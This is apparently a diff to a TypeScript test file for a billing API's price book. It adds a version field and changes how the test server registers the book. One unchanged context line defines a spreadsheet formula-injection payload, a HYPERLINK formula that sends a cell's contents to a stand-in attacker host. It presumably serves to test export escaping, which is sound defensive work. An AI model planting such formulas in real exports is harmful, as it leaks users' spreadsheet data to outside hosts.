@@ -17,6 +17,7 @@ const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"total")';
 const VOLUME = { billingDimension: 'volume_storage_gbs', per: '1000' } as const;
 const BOOK = new PriceBook({
   ...DEFAULT_PRICE_BOOK_FILE,
+  version: 7,
   prices: [...DEFAULT_PRICE_BOOK_FILE.prices, { ...VOLUME, amount: '8', effectiveFrom: '2098-01-01T00:00:00Z' }],
   overrides: [
     { ...VOLUME, accountId: 'acme', amount: '3.50', effectiveFrom: '2025-06-01T00:00:00Z' },
@@ -31,7 +32,8 @@ let initech: Record<string, string>;
 let wide: Record<string, string>;
 
 beforeAll(async () => {
-  api = await startApi({ priceBook: BOOK });
+  api = await startApi();
+  await registerPriceBook(oneServer(api.dependencies.warehouse), BOOK);
   [acme, initech, wide] = await Promise.all([as('acme'), as('initech'), as('wide')]);
   const used = (resourceName: string, at: string, cost: string) =>
     event({ accountId: 'initech', resourceName, at, cost });
